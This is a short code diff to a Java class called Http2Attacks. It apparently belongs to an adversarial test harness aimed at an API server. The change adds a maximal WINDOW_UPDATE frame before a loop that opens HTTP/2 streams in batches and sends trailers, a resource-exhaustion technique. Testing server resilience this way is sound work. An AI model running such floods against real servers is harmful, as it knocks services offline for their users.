@@ -22,6 +22,7 @@ final class Http2Attacks {
     private static final int PADDED = 8;
     private static final int MOST_PADDING = 255;
     private static final int WINDOW_UPDATE = 8;
+    private static final byte[] LARGEST_INCREMENT = {0x7f, (byte) 0xff, 0, 0};
     private static final int UNKNOWN = 0x42;
     private static final int ITEMS = 1_000;
     private static final int MOST_STREAMS = 110_000;
@@ -89,6 +90,7 @@ final class Http2Attacks {
 
     private static void trailers(Adversary adversary) throws IOException {
         Http2Frames connection = adversary.http2(adversary.apiserver());
+        connection.write(Http2Frames.frame(WINDOW_UPDATE, 0, 0, LARGEST_INCREMENT));
         byte[] trailer = {0, 1, 'x', 1, 'y'};
         for (int stream = 1; stream > 0; stream += 2 * BATCH) {
             ByteArrayOutputStream batch = new ByteArrayOutputStream();
